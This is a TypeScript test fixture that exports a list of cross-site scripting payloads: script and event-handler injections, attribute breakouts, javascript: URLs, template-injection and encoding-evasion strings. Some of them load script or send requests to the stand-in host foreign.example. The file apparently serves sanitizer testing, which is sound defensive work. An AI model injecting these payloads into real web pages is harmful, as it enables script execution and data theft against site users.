/** Texts that would do harm where a page took them for markup, script or an address. */
const HARM = "document.title='taken';alert(1)";

const MARKUP = [
  `<script>${HARM}</script>`,
  `<SCRIPT SRC=//foreign.example/x.js></SCRIPT>`,
  `</title><script>${HARM}</script>`,
  `</textarea><script>${HARM}</script>`,
  `</style><script>${HARM}</script>`,
  `<img src=x onerror="${HARM}">`,
  `<img src=//foreign.example/i.png>`,
  `<svg onload="${HARM}">`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg><animate onbegin="${HARM}" attributeName=x dur=1s>`,
  `<body onload="${HARM}">`,
  `<iframe src="javascript:${HARM}"></iframe>`,
  `<iframe srcdoc="<script>${HARM}</script>"></iframe>`,
  `<object data="javascript:${HARM}"></object>`,
  `<embed src="//foreign.example/e.swf">`,
  `<link rel=stylesheet href=//foreign.example/s.css>`,
  `<style>@import '//foreign.example/s.css';</style>`,
  `<style>*{background:url(//foreign.example/b.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=//foreign.example/">`,
  `<base href=//foreign.example/>`,
  `<form action=//foreign.example/><button>Approve</button></form>`,
  `<input autofocus onfocus="${HARM}">`,
  `<details open ontoggle="${HARM}">`,
  `<video><source onerror="${HARM}"></video>`,
  `<audio src=//foreign.example/a.ogg autoplay></audio>`,
  `<marquee onstart="${HARM}">x</marquee>`,
  `<math><mi xlink:href="javascript:${HARM}">x</mi></math>`,
  `<a href="javascript:${HARM}">name</a>`,
  `<a href="//foreign.example/" ping="//foreign.example/p">name</a>`,
  `<template><script>${HARM}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  `<!--><img src=x onerror="${HARM}">-->`,
  `<![CDATA[<script>${HARM}</script>]]>`,
  `<x onclick="${HARM}" autofocus tabindex=1>`,
];

const ATTRIBUTES = [
  `" onmouseover="${HARM}`,
  `' onmouseover='${HARM}`,
  `" autofocus onfocus="${HARM}" x="`,
  `"><script>${HARM}</script>`,
  `'><img src=x onerror=${HARM}>`,
  '` onclick=alert(1) `',
  `" style="background:url(//foreign.example/x)`,
  `javascript:${HARM}`,
  `data:text/html,<script>${HARM}</script>`,
  `//foreign.example/x`,
  `\\u003cscript\\u003e${HARM}\\u003c/script\\u003e`,
  `&lt;script&gt;${HARM}&lt;/script&gt;`,
  `&#60;script&#62;${HARM}&#60;/script&#62;`,
];

// prettier-ignore
const TEMPLATES = [
  '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '<%= alert(1) %>', '#{alert(1)}',
  `'+alert(1)+'`, `";alert(1);//`, `*/alert(1)/*`, `\u2028alert(1)\u2029`, `\r\ndata: {"seq":1}\r\n\r\n`,
  '%3Cscript%3Ealert(1)%3C/script%3E', '\ufeff<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '\u202e<tpircs>',
];

export const PAYLOADS: readonly string[] = [...MARKUP, ...ATTRIBUTES, ...TEMPLATES];
